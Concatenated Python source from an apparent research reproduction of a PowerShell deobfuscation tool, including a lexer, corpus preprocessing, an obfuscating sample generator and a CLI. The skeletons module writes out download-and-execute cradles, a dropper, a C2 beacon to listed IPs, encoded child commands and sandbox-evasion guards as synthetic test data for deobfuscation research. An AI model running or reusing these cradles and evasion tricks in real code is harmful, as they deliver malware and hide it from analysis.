            self.mode = Mode.ARGS
            return
        if self.mode is Mode.ARGS:
            self._emit(PSTokenType.COMMAND_ARGUMENT, word, start)
            return
        # EXPR mode: keywords (e.g. `foreach ($x in $y)`'s `in`) or stray
        # words (classified as arguments for robustness).
        if lowered in charsets.KEYWORDS:
            self._emit(PSTokenType.KEYWORD, word, start)
        else:
            self._emit(PSTokenType.COMMAND_ARGUMENT, word, start)

    def _pending_function_name(self) -> None:
        """Consume whitespace then the function name after ``function``."""
        while not self._at_end() and self._peek() in charsets.WHITESPACE:
            self.pos += 1
        start = self.pos
        while not self._at_end() and (
            self._peek().isalnum() or self._peek() in "_-`:"
        ):
            self.pos += 1
        if self.pos > start:
            name = self.source[start:self.pos].replace("`", "")
            self._emit(PSTokenType.COMMAND_ARGUMENT, name, start)


def lex(source: str) -> List[PSToken]:
    """Tokenize *source*, returning all tokens (comments included)."""
    return Lexer(source).tokenize()
