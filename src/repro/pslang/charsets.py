"""Character classes and operator/keyword tables shared by lexer and parser.

PowerShell is case-insensitive almost everywhere, so every table here is
stored lower-case and lookups must lower their key first.
"""

import string

# Characters PowerShell treats as horizontal whitespace.  NBSP (\xa0) is
# accepted by the real tokenizer and used by "whitespacing" obfuscation.
WHITESPACE = " \t\f\v\xa0"

NEWLINES = "\r\n"

# First character of a simple (unbraced) variable name.  ':' participates in
# drive-qualified names ($env:Path) and scope prefixes ($global:x) and is
# handled by the lexer, not listed here.
VARIABLE_START = set(string.ascii_letters + "_?^$")
VARIABLE_CHARS = set(string.ascii_letters + string.digits + "_?")

# Special single-character automatic variables: $$, $?, $^, $_.
SPECIAL_VARIABLES = set("$?^_")

BAREWORD_TERMINATORS = set(WHITESPACE + NEWLINES + "|;&(){}[]'\"`,#@<>") - set("@")

DIGITS = set(string.digits)
HEX_DIGITS = set(string.hexdigits)

# Multiplier suffixes usable on numeric literals: 1kb, 2MB, ...
NUMERIC_MULTIPLIERS = {
    "kb": 1024,
    "mb": 1024**2,
    "gb": 1024**3,
    "tb": 1024**4,
    "pb": 1024**5,
}

# Dash variants attackers substitute for '-' (en dash, em dash, horizontal
# bar); the real tokenizer folds them all to '-'.
DASHES = "-–—―"

# Quote variants folded to ' and " by the real tokenizer.
SINGLE_QUOTES = "'‘’‚‛"
DOUBLE_QUOTES = '"“”„'

# --------------------------------------------------------------------------
# Operators
# --------------------------------------------------------------------------

# Dash-prefixed operators, lower-case without the dash.  Value is a coarse
# family used by the parser to pick a precedence level.
LOGICAL_OPERATORS = {"and", "or", "xor"}
BITWISE_OPERATORS = {"band", "bor", "bxor", "shl", "shr"}
COMPARISON_OPERATORS = {
    "eq", "ne", "gt", "ge", "lt", "le",
    "ieq", "ine", "igt", "ige", "ilt", "ile",
    "ceq", "cne", "cgt", "cge", "clt", "cle",
    "like", "notlike", "ilike", "inotlike", "clike", "cnotlike",
    "match", "notmatch", "imatch", "inotmatch", "cmatch", "cnotmatch",
    "contains", "notcontains", "icontains", "inotcontains",
    "ccontains", "cnotcontains",
    "in", "notin",
    "replace", "ireplace", "creplace",
    "split", "isplit", "csplit",
    "join",
    "is", "isnot", "as",
}
UNARY_DASH_OPERATORS = {"not", "bnot", "split", "isplit", "csplit", "join"}
FORMAT_OPERATOR = "f"

ALL_DASH_OPERATORS = (
    LOGICAL_OPERATORS
    | BITWISE_OPERATORS
    | COMPARISON_OPERATORS
    | UNARY_DASH_OPERATORS
    | {FORMAT_OPERATOR}
)

ASSIGNMENT_OPERATORS = {"=", "+=", "-=", "*=", "/=", "%=", "??="}

# --------------------------------------------------------------------------
# Keywords
# --------------------------------------------------------------------------

KEYWORDS = {
    "begin", "break", "catch", "class", "continue", "data", "define", "do",
    "dynamicparam", "else", "elseif", "end", "enum", "exit", "filter",
    "finally", "for", "foreach", "from", "function", "hidden", "if", "in",
    "param", "process", "return", "static", "switch", "throw", "trap", "try",
    "until", "using", "var", "while", "workflow",
}

# Keywords that introduce statements the parser knows how to build.
STATEMENT_KEYWORDS = {
    "if", "while", "for", "foreach", "do", "function", "filter", "return",
    "break", "continue", "throw", "try", "switch", "param", "exit", "trap",
}


def is_dash(ch: str) -> bool:
    """True when *ch* is a dash or a unicode dash variant."""
    return len(ch) == 1 and ch in DASHES


def fold_dash(ch: str) -> str:
    return "-" if is_dash(ch) else ch


def is_single_quote(ch: str) -> bool:
    return len(ch) == 1 and ch in SINGLE_QUOTES


def is_double_quote(ch: str) -> bool:
    return len(ch) == 1 and ch in DOUBLE_QUOTES
