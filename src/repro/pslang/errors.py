"""Error taxonomy for the PowerShell front-end."""


class PSSyntaxError(ValueError):
    """Base class for all lexing/parsing failures.

    Carries the source offset where the problem was detected so callers can
    report the offending script piece.
    """

    def __init__(self, message: str, offset: int = -1):
        super().__init__(message)
        self.message = message
        self.offset = offset

    def __str__(self) -> str:
        if self.offset >= 0:
            return f"{self.message} (at offset {self.offset})"
        return self.message


class LexError(PSSyntaxError):
    """Raised when the tokenizer cannot make progress."""


class ParseError(PSSyntaxError):
    """Raised when the parser sees a token sequence it cannot derive."""
