"""Corpus preprocessing (paper Section IV-B1).

Four filters, in the paper's order:

1. **syntax validation** — samples that cannot be parsed into a script
   block are dropped;
2. **token filters** — no tokens at all (HTML/mail), or every command
   unknown, or command tokens containing characters like ``=``/``%``;
3. **meaningless samples** — a single string token and nothing else;
4. **structure dedup** — string token contents replaced by a placeholder,
   then exact-duplicate structures removed (same family, different URLs).
"""

import hashlib
from dataclasses import dataclass, field
from typing import Iterable, List, Optional, Set, Tuple

from repro.dataset.generator import WildSample
from repro.pslang.aliases import ALIASES, CANONICAL_COMMANDS
from repro.pslang.parser import try_parse
from repro.pslang.tokenizer import significant_tokens, try_tokenize
from repro.pslang.tokens import PSTokenType

_PLACEHOLDER = "<s>"

_KNOWN_COMMAND_PREFIXES = (
    "get-", "set-", "new-", "invoke-", "write-", "out-", "start-",
    "stop-", "convertto-", "convertfrom-", "add-", "remove-", "select-",
    "foreach-", "where-", "import-", "export-", "test-", "join-",
    "split-", "read-", "clear-", "copy-", "move-", "restart-", "wait-",
    "register-", "send-", "resolve-", "measure-", "sort-", "group-",
    "format-", "tee-", "compare-", "rename-", "push-", "pop-",
)


def _command_known(name: str) -> bool:
    lowered = name.lower().replace("`", "")
    if lowered in ALIASES or lowered in CANONICAL_COMMANDS:
        return True
    if lowered.startswith(_KNOWN_COMMAND_PREFIXES):
        return True
    basename = lowered.rsplit("\\", 1)[-1].rsplit("/", 1)[-1]
    return basename in (
        "powershell", "powershell.exe", "pwsh", "pwsh.exe", "cmd",
        "cmd.exe", "iex", "%", "?",
    )


def is_valid_sample(script: str) -> Tuple[bool, str]:
    """Apply filters 1-3; returns ``(keep, reason_if_dropped)``."""
    tokens, error = try_tokenize(script)
    if tokens is None:
        return False, f"tokenize: {error}"
    meaningful = significant_tokens(tokens)
    if not meaningful:
        return False, "no tokens"
    ast, parse_error = try_parse(script)
    if ast is None:
        return False, f"parse: {parse_error}"
    commands = [
        t for t in meaningful if t.type is PSTokenType.COMMAND
    ]
    if commands:
        if any(ch in t.content for t in commands for ch in "=%<>"):
            # '%' alone is the ForEach-Object alias; reject only when it
            # appears inside a longer command word.
            bad = [
                t
                for t in commands
                if t.content not in ("%", "?")
                and any(ch in t.content for ch in "=%<>")
            ]
            if bad:
                return False, "command token with invalid characters"
        if not any(_command_known(t.content) for t in commands):
            return False, "all commands unknown"
    if len(meaningful) == 1 and meaningful[0].type is PSTokenType.STRING:
        return False, "single string token"
    return True, ""


def structure_hash(script: str) -> str:
    """Hash of the script with all string contents replaced (filter 4)."""
    tokens, _ = try_tokenize(script)
    if tokens is None:
        digest_input = script
    else:
        pieces: List[str] = []
        for token in significant_tokens(tokens):
            if token.type is PSTokenType.STRING:
                pieces.append(_PLACEHOLDER)
            else:
                pieces.append(token.content.lower())
        digest_input = "\x00".join(pieces)
    return hashlib.sha256(digest_input.encode("utf-8", "replace")).hexdigest()


@dataclass
class PreprocessStats:
    """Counts mirroring the paper's preprocessing narrative."""

    input_count: int = 0
    invalid_syntax: int = 0
    no_tokens: int = 0
    unknown_commands: int = 0
    invalid_command_chars: int = 0
    single_string: int = 0
    duplicates: int = 0
    kept: int = 0
    drop_reasons: List[str] = field(default_factory=list)


def preprocess(
    samples: Iterable[WildSample],
) -> Tuple[List[WildSample], PreprocessStats]:
    """Run the full Section IV-B1 pipeline over *samples*."""
    stats = PreprocessStats()
    seen_structures: Set[str] = set()
    kept: List[WildSample] = []
    for sample in samples:
        stats.input_count += 1
        ok, reason = is_valid_sample(sample.script)
        if not ok:
            stats.drop_reasons.append(reason)
            if reason.startswith("tokenize") or reason.startswith("parse"):
                stats.invalid_syntax += 1
            elif reason == "no tokens":
                stats.no_tokens += 1
            elif reason == "all commands unknown":
                stats.unknown_commands += 1
            elif reason == "command token with invalid characters":
                stats.invalid_command_chars += 1
            elif reason == "single string token":
                stats.single_string += 1
            continue
        digest = structure_hash(sample.script)
        if digest in seen_structures:
            stats.duplicates += 1
            continue
        seen_structures.add(digest)
        kept.append(sample)
    stats.kept = len(kept)
    return kept, stats
