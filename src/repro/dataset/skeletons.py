"""Malicious-script skeletons: the payload families of wild corpora.

Each skeleton builds a *clean* (unobfuscated) script plus its ground
truth: the key information it contains and whether it has network
behaviour.  Families mirror the behaviours the paper's intro motivates —
download-and-execute, fileless loaders, beacons, recon, persistence.
"""

import random
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Set

_DOMAINS = [
    "test.com", "evil.example", "files.badcdn.net", "update.winsvc.org",
    "cdn.paste-mirror.io", "static.malhost.biz", "drop.zone-x.cc",
    "img.pixeltrap.info", "api.c2relay.net", "dl.freesoft-mirror.com",
]

_PATHS = [
    "malware.txt", "payload.ps1", "stage2.ps1", "update.ps1", "a.ps1",
    "loader.txt", "beacon.dat", "sys.ps1", "invoice.ps1", "setup.txt",
]

_IPS = [
    "45.77.12.9", "103.224.18.4", "185.220.101.7", "91.219.236.18",
    "194.36.191.35", "23.94.5.133", "141.98.81.208", "89.248.165.52",
]

_LOCAL_PATHS = [
    r"$env:TEMP\up.ps1", r"$env:APPDATA\svc.ps1", r"C:\Users\Public\run.ps1",
    r"$env:TEMP\inv.ps1",
]


@dataclass
class GroundTruth:
    """What a skeleton's clean script contains."""

    urls: Set[str] = field(default_factory=set)
    ips: Set[str] = field(default_factory=set)
    ps1_files: Set[str] = field(default_factory=set)
    powershell_commands: Set[str] = field(default_factory=set)
    has_network: bool = False


@dataclass
class Skeleton:
    """A parameterized malicious-script family."""

    name: str
    build: Callable[[random.Random], tuple]


def _pick_url(rng: random.Random) -> str:
    return (
        f"https://{rng.choice(_DOMAINS)}/{rng.choice(_PATHS)}"
    )


_URL_SPLIT_PROBABILITY = 0.75
_URL_VAR_NAMES = ["u", "p", "frag", "seg", "part"]


def _url_expression(url: str, rng: random.Random, tag: str):
    """Render *url* as a script expression, often split across variables.

    Wild droppers chunk their URLs into variables precisely to defeat
    regex extraction; reassembling them requires variable tracing (the
    paper's Section III-B3).  Returns ``(setup_lines, expression)``.
    """
    if rng.random() >= _URL_SPLIT_PROBABILITY or len(url) < 12:
        return [], f"'{url}'"
    pieces = []
    count = rng.randint(2, 4)
    cuts = sorted(rng.sample(range(4, len(url) - 2), count - 1))
    previous = 0
    for cut in cuts:
        pieces.append(url[previous:cut])
        previous = cut
    pieces.append(url[previous:])
    stem = rng.choice(_URL_VAR_NAMES) + tag
    names = [f"${stem}{i}" for i in range(len(pieces))]
    setup = [
        f"{name} = '{piece}'" for name, piece in zip(names, pieces)
    ]
    return setup, "(" + " + ".join(names) + ")"


def _downloader(rng: random.Random):
    url = _pick_url(rng)
    setup, expr = _url_expression(url, rng, "a")
    lines = list(setup)
    lines.append("$client = New-Object Net.WebClient")
    lines.append(f"$payload = $client.DownloadString({expr})")
    lines.append("Invoke-Expression $payload")
    truth = GroundTruth(urls={url}, has_network=True)
    if url.endswith(".ps1"):
        truth.ps1_files.add(url)
    return "\n".join(lines), truth


def _dropper(rng: random.Random):
    url = _pick_url(rng)
    local = rng.choice(_LOCAL_PATHS)
    setup, expr = _url_expression(url, rng, "d")
    lines = list(setup)
    lines.append("$w = New-Object Net.WebClient")
    lines.append(f"$w.DownloadFile({expr}, \"{local}\")")
    lines.append(
        f"powershell -ExecutionPolicy Bypass -File \"{local}\""
    )
    truth = GroundTruth(
        urls={url},
        has_network=True,
        powershell_commands={"powershell"},
    )
    if url.endswith(".ps1"):
        truth.ps1_files.add(url)
    if local.lower().endswith(".ps1"):
        truth.ps1_files.add(local)
    return "\n".join(lines), truth


def _ip_beacon(rng: random.Random):
    ip = rng.choice(_IPS)
    port = rng.choice([443, 8080, 4444, 8443])
    lines = []
    if rng.random() < _URL_SPLIT_PROBABILITY:
        # C2 IPs get the same variable-split treatment as URLs.
        octets = ip.split(".")
        cut = rng.randint(1, 3)
        lines.append(f"$h0 = '{'.'.join(octets[:cut])}'")
        lines.append(f"$h1 = '.{'.'.join(octets[cut:])}'")
        expr = "($h0 + $h1)"
    else:
        expr = f"'{ip}'"
    lines.append(
        f"$sock = New-Object Net.Sockets.TcpClient({expr}, {port})"
    )
    lines.append("$stream = $sock.GetStream()")
    lines.append("$sock.Close()")
    return "\n".join(lines), GroundTruth(ips={ip}, has_network=True)


def _two_stage(rng: random.Random):
    first = _pick_url(rng)
    second = _pick_url(rng)
    setup1, expr1 = _url_expression(first, rng, "x")
    setup2, expr2 = _url_expression(second, rng, "y")
    lines = list(setup1) + list(setup2)
    lines.append(
        f"$stage1 = (New-Object Net.WebClient).DownloadString({expr1})"
    )
    lines.append(
        f"$stage2 = (New-Object Net.WebClient).DownloadString({expr2})"
    )
    lines.append("iex $stage1")
    lines.append("iex $stage2")
    truth = GroundTruth(urls={first, second}, has_network=True)
    for url in (first, second):
        if url.endswith(".ps1"):
            truth.ps1_files.add(url)
    return "\n".join(lines), truth


def _encoded_child(rng: random.Random):
    import base64

    url = _pick_url(rng)
    inner = f"(New-Object Net.WebClient).DownloadString('{url}')|iex"
    blob = base64.b64encode(inner.encode("utf-16-le")).decode()
    script = f"powershell -NoP -NonI -e {blob}"
    truth = GroundTruth(
        urls={url},
        has_network=True,
        powershell_commands={"powershell"},
    )
    if url.endswith(".ps1"):
        truth.ps1_files.add(url)
    return script, truth


def _blob_dropper(rng: random.Random):
    """A base64 *binary* payload (PE stub) written to disk.

    The paper's Table V discussion: 65% of residual L3 markers are
    Base64 strings that "often represent binary files, which are decoded
    into bytes during execution.  They cannot be recovered to strings" —
    so every tool, including Invoke-Deobfuscation, must leave them.
    """
    import base64

    blob = bytes(rng.randrange(256) for _ in range(rng.randint(600, 1400)))
    payload = base64.b64encode(b"MZ\x90\x00" + blob).decode()
    local = rng.choice(_LOCAL_PATHS).replace(".ps1", ".dat")
    script = (
        f"$bytes = [Convert]::FromBase64String('{payload}')\n"
        f"[IO.File]::WriteAllBytes(\"{local}\", $bytes)\n"
        f"Start-Process \"{local}\""
    )
    return script, GroundTruth()


def _recon(rng: random.Random):
    # No network behaviour: environment probing only.
    script = (
        "$info = @{}\n"
        "$info['user'] = $env:USERNAME\n"
        "$info['os'] = $env:OS\n"
        "$info['dir'] = $env:SystemRoot\n"
        "Write-Output $info"
    )
    return script, GroundTruth()


def _note_writer(rng: random.Random):
    local = rng.choice(_LOCAL_PATHS)
    script = (
        "$note = 'All your files are encrypted. Pay to recover.'\n"
        f"$note | Out-File \"{local}\""
    )
    truth = GroundTruth()
    if local.lower().endswith(".ps1"):
        truth.ps1_files.add(local)
    return script, truth


def _string_builder(rng: random.Random):
    # Assembles a URL across variables — exercises variable tracing.
    url = _pick_url(rng)
    scheme, rest = url.split("://", 1)
    host, path = rest.split("/", 1)
    script = (
        f"$p1 = '{scheme}://'\n"
        f"$p2 = '{host}/'\n"
        f"$p3 = '{path}'\n"
        f"$target = $p1 + $p2 + $p3\n"
        f"(New-Object Net.WebClient).DownloadString($target) | iex"
    )
    truth = GroundTruth(urls={url}, has_network=True)
    if url.endswith(".ps1"):
        truth.ps1_files.add(url)
    return script, truth


def _sleeper(rng: random.Random):
    # Anti-analysis delay before the payload: slows execution-based tools.
    url = _pick_url(rng)
    setup, expr = _url_expression(url, rng, "s")
    lines = [f"Start-Sleep -Seconds {rng.randint(5, 30)}"]
    lines.extend(setup)
    lines.append(
        f"(New-Object Net.WebClient).DownloadString({expr}) | iex"
    )
    truth = GroundTruth(urls={url}, has_network=True)
    if url.endswith(".ps1"):
        truth.ps1_files.add(url)
    return "\n".join(lines), truth


SKELETONS: Dict[str, Skeleton] = {
    skeleton.name: skeleton
    for skeleton in [
        Skeleton("downloader", _downloader),
        Skeleton("dropper", _dropper),
        Skeleton("ip_beacon", _ip_beacon),
        Skeleton("two_stage", _two_stage),
        Skeleton("encoded_child", _encoded_child),
        Skeleton("blob_dropper", _blob_dropper),
        Skeleton("recon", _recon),
        Skeleton("note_writer", _note_writer),
        Skeleton("string_builder", _string_builder),
        Skeleton("sleeper", _sleeper),
    ]
}

NETWORK_SKELETONS = [
    "downloader", "dropper", "ip_beacon", "two_stage", "encoded_child",
    "string_builder", "sleeper",
]


def build_skeleton(name: str, rng: random.Random):
    """Instantiate a skeleton; returns ``(script, ground_truth)``."""
    return SKELETONS[name].build(rng)
