"""Seeded wild-corpus generator (the paper's dataset substitute).

A sample is a skeleton script pushed through a randomized obfuscation
stack:

1. optionally 1-2 *multi-layer* wraps (string encoder + invoker, or
   ``powershell -EncodedCommand``);
2. optionally string-encoding of embedded pieces (handled by the layer
   wrap since techniques operate on whole scripts here);
3. a random subset of token-level L1 transforms (ticking, case,
   whitespace, aliases, random names).

The generator records which techniques touched each sample (ground truth
for Table I), keeps the clean script (ground truth for Fig 5/Table IV)
and can emit structural duplicates + junk so preprocessing (Section
IV-B1) has real work.
"""

import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Set

from repro.dataset.skeletons import (
    NETWORK_SKELETONS,
    SKELETONS,
    GroundTruth,
    build_skeleton,
)
from repro.obfuscation.catalog import TECHNIQUES, get_technique
from repro.obfuscation.layers import wrap_encoded_command, wrap_invoke_expression

_STRING_TECHNIQUES = [
    name for name, t in TECHNIQUES.items() if t.kind == "string"
]
_TOKEN_TECHNIQUES = ["ticking", "whitespacing", "random_case", "alias"]
_INNER_L2 = ["concat", "reorder", "replace", "reverse"]
_INNER_L3 = ["base64", "encode_ascii", "bxor"]


def _obfuscate_inner_strings(
    script: str, rng: random.Random, techniques: Set[str]
) -> str:
    """Encode string literals *inside* the script (Invoke-Obfuscation's
    STRING menu): the reason wild samples carry L2/L3 markers everywhere,
    not just in their outermost layer."""
    from repro.pslang import ast_nodes as N
    from repro.pslang.parser import try_parse

    ast, _ = try_parse(script)
    if ast is None:
        return script
    replacements = []
    chosen: Set[str] = set()
    for node in ast.walk_pre_order():
        if not isinstance(node, N.StringConstantExpressionAst):
            continue
        if node.quote != "'" or len(node.value) < 6:
            continue
        parent = node.parent
        if isinstance(parent, N.CommandAst) and parent.elements and (
            parent.elements[0] is node
        ):
            continue  # command names stay
        if isinstance(parent, N.MemberExpressionAst) and (
            parent.member is node
        ):
            continue  # member names stay
        if isinstance(parent, N.HashtableAst):
            continue  # keys stay
        if rng.random() > 0.6:
            continue
        pool = _INNER_L3 if rng.random() < 0.45 else _INNER_L2
        name = rng.choice(pool)
        expression = get_technique(name).encode_string(node.value, rng)
        replacements.append((node.start, node.end, expression, name))
    if not replacements:
        return script
    result = script
    for start, end, expression, name in sorted(replacements, reverse=True):
        result = result[:start] + expression + result[end:]
        chosen.add(name)
    validated, _ = try_parse(result)
    if validated is None:
        return script
    techniques.update(chosen)
    return result


# Sandbox-evasion guards wild samples prepend: each one *fires* inside
# the analysis sandbox (the victim-profile checks fail there), which is
# exactly what defeats execution-based deobfuscators while leaving static
# AST recovery untouched (the paper's Table III/IV argument).
EVASION_GUARDS = [
    "if ($env:USERNAME -eq 'user') { exit }",
    "if ($env:COMPUTERNAME -like 'DESKTOP-*') { exit }",
    "if (-not (Test-Path 'C:\\Users\\victim\\Desktop\\doc.docx')) { exit }",
    "if ($env:PROCESSOR_ARCHITECTURE -eq 'AMD64') "
    "{ if ($env:USERNAME -eq 'user') { exit } }",
]


@dataclass
class WildSample:
    """One generated corpus sample with full ground truth."""

    identifier: str
    script: str
    clean_script: str
    skeleton: str
    techniques: Set[str] = field(default_factory=set)
    layers: int = 0
    truth: Optional[GroundTruth] = None
    guarded: bool = False

    @property
    def levels(self) -> Set[int]:
        return {TECHNIQUES[name].level for name in self.techniques
                if name in TECHNIQUES}


def _wrap_one_layer(script: str, rng: random.Random, techniques: Set[str]):
    if rng.random() < 0.02:
        # Whitespace encoding: ~0.1% of the paper's wild corpus; kept
        # rare here too (it is the one technique nobody unwraps).
        techniques.add("whitespace_encoding")
        return get_technique("whitespace_encoding").apply_to_script(
            script, rng
        )
    if rng.random() < 0.3:
        techniques.add("base64")
        return wrap_encoded_command(script, rng)
    # Wild layer-encoder mix: concat/base64/reorder dominate; exotic
    # encodings are the tail (matching Table I's pervasive L2+L3).
    encoder_name = rng.choice(
        ["concat"] * 3
        + ["reorder"] * 2
        + ["base64"] * 4
        + ["replace", "reverse", "deflate", "securestring", "bxor"]
        + ["encode_ascii", "encode_hex", "encode_octal",
           "encode_binary", "specialchar"]
    )
    technique = get_technique(encoder_name)
    techniques.add(encoder_name)
    expression = technique.encode_string(script, rng)
    return wrap_invoke_expression(expression, rng)


def generate_sample(
    identifier: str,
    rng: random.Random,
    skeleton_name: Optional[str] = None,
    layer_depth: Optional[int] = None,
    token_count: Optional[int] = None,
    rename: Optional[bool] = None,
    guard: Optional[bool] = None,
) -> WildSample:
    """Generate one sample; all choices are drawn from *rng*."""
    name = skeleton_name or rng.choice(list(SKELETONS))
    clean, truth = build_skeleton(name, rng)
    guarded = bool(guard) if guard is not None else False
    if guarded:
        clean = rng.choice(EVASION_GUARDS) + "\n" + clean
    script = clean
    techniques: Set[str] = set()

    if rename is None:
        rename = rng.random() < 0.5
    if rename:
        script = get_technique("random_name").apply_to_script(script, rng)
        techniques.add("random_name")

    if rng.random() < 0.85:
        script = _obfuscate_inner_strings(script, rng, techniques)

    depth = layer_depth if layer_depth is not None else rng.choice(
        [0, 1, 1, 1, 2]
    )
    for _layer in range(depth):
        script = _wrap_one_layer(script, rng, techniques)
    if depth and rng.random() < 0.9:
        # A second STRING pass over the wrapped script (stacked
        # Invoke-Obfuscation runs): chunks/reorders the layer's blob
        # literals, which is why L2 markers blanket wild samples.
        script = _obfuscate_inner_strings(script, rng, techniques)

    count = token_count if token_count is not None else rng.randint(1, 3)
    chosen = rng.sample(_TOKEN_TECHNIQUES, min(count, len(_TOKEN_TECHNIQUES)))
    for token_name in chosen:
        new_script = get_technique(token_name).apply_to_script(script, rng)
        if new_script != script:
            techniques.add(token_name)
            script = new_script

    return WildSample(
        identifier=identifier,
        script=script,
        clean_script=clean,
        skeleton=name,
        techniques=techniques,
        layers=depth,
        truth=truth,
        guarded=guarded,
    )


def generate_corpus(
    count: int,
    seed: int = 2022,
    duplicate_fraction: float = 0.0,
    junk_fraction: float = 0.0,
    skeletons: Optional[Sequence[str]] = None,
    guard_fraction: float = 0.0,
) -> List[WildSample]:
    """Generate *count* samples (plus optional duplicates and junk).

    ``duplicate_fraction`` adds structural near-duplicates (same script,
    different URLs — what the paper's structure-dedup removes);
    ``junk_fraction`` adds non-PowerShell noise (HTML/mail fragments that
    preprocessing must reject).
    """
    rng = random.Random(seed)
    samples: List[WildSample] = []
    for index in range(count):
        skeleton_name = (
            rng.choice(list(skeletons)) if skeletons else None
        )
        samples.append(
            generate_sample(
                f"sample-{index:05d}",
                rng,
                skeleton_name,
                guard=rng.random() < guard_fraction,
            )
        )

    extra = []
    duplicates = int(count * duplicate_fraction)
    for index in range(duplicates):
        donor = rng.choice(samples)
        clone_rng = random.Random(rng.random())
        clone = generate_sample(
            f"dup-{index:05d}",
            clone_rng,
            skeleton_name=donor.skeleton,
            layer_depth=donor.layers,
        )
        extra.append(clone)

    junk = int(count * junk_fraction)
    for index in range(junk):
        extra.append(
            WildSample(
                identifier=f"junk-{index:05d}",
                script=rng.choice(_JUNK_BODIES),
                clean_script="",
                skeleton="junk",
            )
        )
    return samples + extra


_JUNK_BODIES = [
    "<html><body><h1>It works!</h1></body></html>",
    (
        "Received: from mail.example.com\n"
        "Subject: =?utf-8?B?aGVsbG8=?=\n"
        "Content-Type: text/plain\n\nplease see attachment"
    ),
    "MZ\x90\x00\x03\x00\x00\x00\x04\x00",
    "'just one string'",
    "% % % = = = not a script % % %",
]
