"""Synthetic wild-corpus generation and preprocessing (Section IV-B1).

The paper's 39,713-sample QI-ANXIN corpus is not redistributable, so this
package generates a statistically similar stand-in: malicious-script
skeletons (downloaders, droppers, beacons, recon...) obfuscated with
randomized stacks of every Table II technique, plus duplicate/noise
injection so the paper's preprocessing pipeline has real work to do.
"""

from repro.dataset.generator import WildSample, generate_corpus
from repro.dataset.preprocess import PreprocessStats, preprocess

__all__ = ["WildSample", "generate_corpus", "preprocess", "PreprocessStats"]
