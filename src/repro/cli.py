"""Command line interface: ``python -m repro <command>``.

Commands
--------
deobfuscate FILE [--no-rename] [--no-reformat] [--show-layers]
    Deobfuscate a PowerShell script and print the result.
score FILE
    Print the detected obfuscation techniques and the score.
keyinfo FILE
    Print URLs, IPs, .ps1 paths and powershell commands found.
behavior FILE
    Execute in the recording sandbox and print network effects.
tokenize FILE
    Dump the PSParser-style token stream.
parse FILE
    Dump the AST.
"""

import argparse
import sys


def _read(path: str) -> str:
    if path == "-":
        return sys.stdin.read()
    with open(path, "r", encoding="utf-8", errors="replace") as handle:
        return handle.read()


def _cmd_deobfuscate(args) -> int:
    from repro import Deobfuscator

    tool = Deobfuscator(
        rename=not args.no_rename,
        reformat=not args.no_reformat,
    )
    result = tool.deobfuscate(_read(args.file))
    if not result.valid_input:
        print("error: input is not a valid PowerShell script",
              file=sys.stderr)
        print(result.script)
        return 1
    if args.show_layers:
        for index, layer in enumerate(result.layers):
            print(f"# --- layer {index + 1} ---")
            print(layer)
        print("# --- final ---")
    print(result.script)
    return 0


def _cmd_score(args) -> int:
    from repro.scoring import score_script
    from repro.scoring.detectors import TECHNIQUE_LEVELS

    report = score_script(_read(args.file))
    for name in sorted(report.techniques):
        print(f"L{TECHNIQUE_LEVELS[name]} {name}")
    print(f"score: {report.score}")
    return 0


def _cmd_keyinfo(args) -> int:
    from repro.analysis import extract_key_info

    info = extract_key_info(_read(args.file))
    for label, values in (
        ("url", info.urls),
        ("ip", info.ips),
        ("ps1", info.ps1_files),
        ("powershell", info.powershell_commands),
    ):
        for value in sorted(values):
            print(f"{label}\t{value}")
    return 0


def _cmd_behavior(args) -> int:
    from repro.analysis import observe_behavior

    report = observe_behavior(_read(args.file))
    for effect in report.effects:
        print(f"{effect.kind}\t{effect.target}")
    if report.error:
        print(f"error: {report.error}", file=sys.stderr)
    return 0


def _cmd_report(args) -> int:
    from repro.analysis.report import build_report

    report = build_report(_read(args.file))
    print(report.render())
    return 0


def _cmd_tokenize(args) -> int:
    from repro.pslang import tokenize

    for token in tokenize(_read(args.file)):
        print(
            f"{token.start:>6} {token.length:>4} "
            f"{token.type.value:<20} {token.content!r}"
        )
    return 0


def _cmd_parse(args) -> int:
    from repro.pslang import parse

    source = _read(args.file)
    ast = parse(source)

    def dump(node, depth=0):
        text = source[node.start:node.end]
        preview = repr(text[:50])
        print(f"{'  ' * depth}{node.type_name} {preview}")
        for child in node.children():
            dump(child, depth + 1)

    dump(ast)
    return 0


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro",
        description=(
            "Invoke-Deobfuscation (DSN 2022) reproduction: AST-based, "
            "semantics-preserving PowerShell deobfuscation"
        ),
    )
    sub = parser.add_subparsers(dest="command", required=True)

    p = sub.add_parser("deobfuscate", help="deobfuscate a script")
    p.add_argument("file", help="script path, or - for stdin")
    p.add_argument("--no-rename", action="store_true")
    p.add_argument("--no-reformat", action="store_true")
    p.add_argument("--show-layers", action="store_true")
    p.set_defaults(func=_cmd_deobfuscate)

    p = sub.add_parser("score", help="score obfuscation techniques")
    p.add_argument("file")
    p.set_defaults(func=_cmd_score)

    p = sub.add_parser("keyinfo", help="extract key information")
    p.add_argument("file")
    p.set_defaults(func=_cmd_keyinfo)

    p = sub.add_parser("behavior", help="record sandboxed behaviour")
    p.add_argument("file")
    p.set_defaults(func=_cmd_behavior)

    p = sub.add_parser(
        "report", help="full triage report (deobfuscate+score+behaviour)"
    )
    p.add_argument("file")
    p.set_defaults(func=_cmd_report)

    p = sub.add_parser("tokenize", help="dump tokens")
    p.add_argument("file")
    p.set_defaults(func=_cmd_tokenize)

    p = sub.add_parser("parse", help="dump the AST")
    p.add_argument("file")
    p.set_defaults(func=_cmd_parse)

    args = parser.parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())
