"""Command line interface: ``python -m repro <command>``.

Commands
--------
deobfuscate FILE [--no-rename] [--no-reformat] [--show-layers] [--timeout S]
    Deobfuscate a script and print the result; ``--stats`` adds the
    run's telemetry profile on stderr; ``--policy NAME`` selects the
    sandbox policy preset (:mod:`repro.policy`) piece recovery runs
    under; ``--language NAME`` selects the language front end
    (:mod:`repro.frontend`; ``powershell`` by default).
languages
    List the registered language front ends with their aliases, file
    extensions and capability flags; ``--json`` emits the same table
    machine-readably.
batch INPUT... [--jobs N] [--timeout S] [--output FILE] [--resume] ...
    Deobfuscate a whole corpus across a worker-process pool, streaming
    one JSONL record per sample plus an aggregate summary; ``--dedup``
    runs each unique content hash once and reuses the result.
serve [--host H] [--port P] [--jobs N] [--timeout S] [--queue-limit N]
